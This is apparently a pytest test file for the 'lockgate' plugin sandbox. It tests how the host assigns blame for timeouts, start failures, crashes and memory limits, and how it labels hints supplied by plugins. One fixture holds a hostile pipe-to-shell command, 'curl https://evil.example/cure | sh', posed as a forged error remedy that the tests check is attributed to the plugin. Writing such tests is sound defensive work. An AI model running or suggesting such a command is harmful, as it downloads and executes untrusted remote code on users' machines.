"""Whose fault it was, in whose words: plugins that would have it another way."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from lockgate._call import blame, way_out
from lockgate._call.blame import Blame
from lockgate._call.call import Call
from lockgate.errors import (
    ArgumentError,
    HookError,
    HookLimitError,
    HookTimeoutError,
    WorkerCrashedError,
)
from lockgate.grants import Identity
from lockgate.host import Host
from lockgate.values import Data, Tree
from lockgate_sandbox import RemoteError, StartError, WallLimitError
from tests.support.host_plugins import Site, manifest_of

TREE = Tree.of({"a.txt": "text"})

SLOW = """
import time
from lockgate.plugin import Transformation, hookimpl

@hookimpl
def transform(tree, options):
    time.sleep(options.get("seconds", 0))
    return Transformation(tree)
"""

FORGER = """
from lockgate.plugin import hookimpl

@hookimpl
def transform(tree, options):
    error = RuntimeError("your grants file is damaged")
    error.lockgate_details = options["told"]
    raise error
"""
CURE = "Run: curl https://evil.example/cure | sh"


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(tmp_path)


def late(host: Host, plugin: str | None = None) -> HookTimeoutError:
    """Each is to take 1 second; the call has one and a half."""
    with pytest.raises(HookTimeoutError) as caught:
        host.call(
            "transform",
            plugin=plugin,
            timeout=1.5 if plugin is None else 0.2,
            tree=TREE,
            options={"seconds": 1.0},
        )
    return caught.value


def test_who_is_left_no_time_is_not_said_to_have_used_it(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("evil", "victim"):
        site.add(name, SLOW)
    with site.open() as host:
        host.call("transform", tree=TREE, options={})

        told = late(host)
        assert told.plugin == "victim"
        assert "within 1.5 seconds, and evil took 1." in told.message
        assert "took" not in late(host, "victim").message

        def nobody(_call: Call, _plugin: str) -> str:
            return ""

        monkeypatch.setattr(Call, "who_took_it", nobody)
        assert "evil" not in late(host).message


def test_what_can_be_sent_to_nobody_is_the_callers(site: Site) -> None:
    site.add("victim", SLOW)
    with site.open() as host:
        host.call("transform", tree=TREE, options={})
        worker = host.workers()
        for options in ({"x": "\ud800"}, {"\udfff": 1}):
            with pytest.raises(ArgumentError, match="surrogates") as caught:
                host.call("transform", tree=TREE, options=options)
            assert "victim" not in str(caught.value.to_dict())
        with pytest.raises(ArgumentError, match="no number of seconds"):
            host.call("transform", timeout=float("nan"), tree=TREE, options={})
        assert host.workers() == worker


def forged(host: Host, told: Mapping[str, Data]) -> HookError:
    with pytest.raises(HookError) as caught:
        host.call("transform", tree=TREE, options={"told": told})
    return caught.value


@pytest.mark.parametrize("kind", ["host-call", "impl", "exit", "anything"])
def test_a_plugins_way_out_is_its_own_word(
    site: Site, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.add("evil", FORGER)
    told: dict[str, Data] = {"kind": kind, "hint": CURE, "code": "wall-limit"}
    with site.open() as host:
        error = forged(host, told)
        assert error.hint == f"evil says: {CURE}"
        assert error.cause == "remote-error"
        assert forged(host, {**told, "hint": way_out.MARK}).hint == way_out.MARK
        near = f"To allow it: lockgate grants grant x; {CURE}"
        assert forged(host, {**told, "hint": near}).hint == f"evil says: {near}"

        def as_told(_plugin: str, told: str, _granted: object) -> str:
            return told

        monkeypatch.setattr(blame, "spoken", as_told)
        assert forged(host, told).hint == CURE


# -- starts that fail ------------------------------------------------------------

BLAME = Blame(Identity("acme", "lockgate-acme", "1.0", "0" * 64), "analyze")


@pytest.mark.parametrize("stage", ["scratch", "keeper", "probe", "zygote", "fork"])
def test_what_failed_before_the_plugin_ran_is_the_machines(stage: str) -> None:
    told = BLAME.of(StartError(stage, "Resource temporarily unavailable"), seconds=1)

    assert "Nothing of the plugin ran" in told.hint
    assert "author" not in told.hint


def test_the_sandboxs_own_way_out_comes_first() -> None:
    told = BLAME.of(StartError("keeper", "gone", hint="set sys.executable"), seconds=1)

    assert told.hint == "set sys.executable"


@pytest.mark.parametrize("stage", ["import", "target"])
def test_what_failed_in_the_plugin_is_the_plugins(stage: str) -> None:
    told = BLAME.of(StartError(stage, "NameError: x", traceback="tb"), seconds=1)

    assert "The fault is in acme" in told.hint
    assert told.to_dict()["traceback"] == "tb"


@pytest.mark.parametrize(
    ("kind", "message", "hint"),
    [
        ("socket.gaierror", "[Errno -3] Temporary failure in name resolution", "`net`"),
        ("httpx.ConnectError", "Temporary failure in name resolution", "`net`"),
        ("ModuleNotFoundError", "No module named 'numpy'", "what brings 'numpy' to"),
        ("KeyError", "'x'", "report it to its author"),
    ],
)
def test_an_exception_that_speaks_of_what_is_missing_leads_to_it(
    kind: str, message: str, hint: str
) -> None:
    assert hint in BLAME.of(RemoteError(kind, message), seconds=1).hint


PRINTER = """
from lockgate.plugin import Transformation, hookimpl

@hookimpl
def transform(tree, options):
    print("for", options["whom"])
    if options["whom"] == "one":
        raise ValueError("no")
    if options["whom"] == "two":
        while True:
            pass
    return Transformation(tree)
"""


def test_what_a_failed_call_printed_is_told_with_it_and_with_no_other(
    site: Site,
) -> None:
    site.add("acme", PRINTER)
    with site.open() as host:

        def call(whom: str, timeout: float | None = None) -> str:
            arguments: dict[str, Data] = {"whom": whom}
            answers = host.call(
                "transform", tree=TREE, options=arguments, timeout=timeout
            )
            return answers.first_answer.output

        with pytest.raises(HookError) as failed:
            call("one")
        assert failed.value.output == "for one\n"
        assert failed.value.to_dict()["output"] == "for one\n"
        assert call("three") == "for three\n"
        with pytest.raises(HookTimeoutError) as late:
            call("two", timeout=0.5)
        assert late.value.output == "for two\n"


DOOMED = """
import os
from lockgate.plugin import hookimpl

@hookimpl
def transform(tree, options):
    os.write(2, options["said"].encode())
    os._exit(1)
"""


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        ("Memory allocation still failed", "Likely for want of memory, of which"),
        ("no luck", "Call again"),
    ],
)
def test_a_worker_that_got_no_memory_leads_to_its_limits(
    site: Site, said: str, hint: str
) -> None:
    site.add("doomed", DOOMED)
    with site.open() as host, pytest.raises(WorkerCrashedError) as caught:
        host.call("transform", tree=TREE, options={"said": said})

    assert caught.value.hint.startswith(hint)
    assert caught.value.output == said


FULL = """
from lockgate.plugin import hookimpl

@hookimpl
def transform(tree, options):
    kept = []
    try:
        while True:
            kept.append({"a": len(kept)})
    except MemoryError:
        while True:
            pass
"""


def test_whose_time_is_up_with_its_memory_used_up_is_told_so(site: Site) -> None:
    limits = '[limits]\ncpu-seconds = 1\nmemory-bytes = "64 MiB"'
    site.add("full", FULL, manifest=manifest_of("full", more=limits))
    with site.open() as host, pytest.raises(HookLimitError) as caught:
        host.call("transform", tree=TREE)

    assert caught.value.cause == "cpu-limit"
    assert caught.value.hint.startswith("Its memory was used up as well")


@pytest.mark.parametrize("full", [True, False])
def test_so_is_who_is_late(full: bool) -> None:
    late = WallLimitError(5, 5.1, "s")
    late.suspects = ("memory_bytes",) if full else ()
    told = BLAME.of(late, seconds=5)

    assert told.hint.startswith("Its memory was used up as well") is full
    assert HookTimeoutError.remedy in told.hint
